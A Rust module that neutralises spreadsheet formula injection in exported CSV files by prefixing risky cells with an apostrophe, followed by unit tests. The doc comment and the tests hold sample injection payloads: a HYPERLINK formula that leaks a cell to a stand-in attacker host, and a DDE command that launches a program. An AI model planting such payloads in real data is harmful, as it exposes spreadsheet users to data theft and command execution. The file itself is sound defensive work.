//! The one way a CSV leaves the host. Every cell goes through [`cell`]: a spreadsheet runs a cell
//! that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, and the names in
//! these files are typed by shoppers and staff (a shopper could sign up as
//! `=HYPERLINK("http://evil.example/?d="&A2,"open")` and land in the TEFAP file). OWASP's rule: such
//! a cell gets a leading apostrophe, which the spreadsheet shows as text and does not display.
use std::borrow::Cow;

/// The characters a spreadsheet reads as the start of a formula (or strips before one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV being written: rows of cells, each neutralised; `finish` gives the bytes.
pub struct SheetWriter {
    out: csv::Writer<Vec<u8>>,
}

impl Default for SheetWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl SheetWriter {
    pub fn new() -> Self {
        Self { out: csv::WriterBuilder::new().flexible(true).from_writer(Vec::new()) }
    }

    /// Writes one row; every cell is passed through [`cell`].
    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells.into_iter().map(|c| cell(c.as_ref()).into_owned()).collect();
        self.out.write_record(&cells)?;
        Ok(())
    }

    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
        self.out.into_inner().map_err(|e| anyhow::anyhow!("csv: {}", e.error()))
    }
}

/// A cell a spreadsheet would run, with an apostrophe before it; a number (a stock move's `-5`,
/// a limit's `+2`) stays as it is, since a number is never run.
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) && text.trim().parse::<f64>().is_err() {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// The text a cell held before [`cell`] guarded it: what a CSV of ours reads back as on import.
pub fn uncell(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_written_as_text_and_numbers_as_numbers() {
        let mut w = SheetWriter::new();
        w.row(["=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
            .unwrap();
        w.row(["\tx", "\rx", "-5", "+2", "1.5", "Ann", "O'Neil"]).unwrap();
        let text = String::from_utf8(w.finish().unwrap()).unwrap();
        let mut lines = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        let rows: Vec<Vec<String>> = lines.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
        assert_eq!(
            rows[0],
            ["'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"open\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)"]
        );
        assert_eq!(rows[1], ["'\tx", "'\rx", "-5", "+2", "1.5", "Ann", "O'Neil"]);
    }

    #[test]
    fn a_guarded_cell_reads_back_as_it_was() {
        for text in ["=1+1", "@x", "-y", "Ann", "'quoted", "-5"] {
            assert_eq!(uncell(&cell(text)), text);
        }
    }
}
